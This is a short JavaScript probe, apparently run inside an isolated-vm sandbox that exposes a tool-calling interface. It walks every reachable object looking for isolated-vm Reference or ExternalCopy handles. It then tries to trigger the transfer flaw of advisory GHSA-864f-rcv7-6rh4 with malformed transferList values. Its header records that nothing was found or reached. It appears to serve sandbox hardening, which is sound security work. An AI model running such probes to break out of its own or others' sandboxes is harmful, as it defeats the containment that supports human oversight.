// Tries: to find a Reference, ExternalCopy or other object of isolated-vm in the realm, and to transfer through it as in GHSA-864f-rcv7-6rh4.
// Ends: completed {"looked":true,"found":[],"reached":[]}
const METHODS = "applySync applyIgnored copyInto copySync deref derefInto getSync setSync evalSync createContextSync dispose transferIn".split(" ");
const seen = new Set();
const found = [];
const reached = [];
const waiting = [globalThis, tools, ToolError, (async () => {})(), (function* () {})(), (async function* () {})(), new Error("x")];
const note = (value, where) => {
  if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return;
  seen.add(value);
  waiting.push(value);
  let kinds = [];
  try {
    kinds = METHODS.filter((name) => typeof value[name] === "function");
  } catch {}
  const name = Object.prototype.toString.call(value);
  // Of the language itself, only `DisposableStack` has one of these.
  if (kinds.length > 0 && kinds.join() !== "dispose") found.push(`${where} ${kinds}`);
  if (/Reference|ExternalCopy|Isolate\b|Callback|NativeModule/.test(name)) found.push(`${where} ${name}`);
};
note(await tools.read({ id: 1 }), "result");
note(await tools.fail({ how: "error" }).catch((error) => error), "failure");
try {
  (function again() {
    again();
  })();
} catch (error) {
  note(error, "overflow");
}
while (waiting.length > 0) {
  const value = waiting.pop();
  for (const key of Reflect.ownKeys(value)) {
    let property;
    try {
      property = Object.getOwnPropertyDescriptor(value, key);
    } catch {
      continue;
    }
    for (const inner of [property?.value, property?.get, property?.set]) note(inner, String(key));
  }
  try {
    note(Object.getPrototypeOf(value), "prototype");
  } catch {}
}
// The trigger: a list of what to transfer that is none, for what takes such a list.
for (const list of [[{}], [1], [new ArrayBuffer(8), {}], { length: 1, 0: {} }]) {
  for (const [where, transfer] of [
    ["ExternalCopy", () => new ExternalCopy(1, { transferList: list })],
    ["ivm", () => new ivm.ExternalCopy(1, { transferList: list })],
    ["require", () => new (require("isolated-vm").ExternalCopy)(1, { transferList: list })],
  ]) {
    try {
      transfer();
      reached.push(where);
    } catch {}
  }
}
return { looked: seen.size > 500, found, reached };
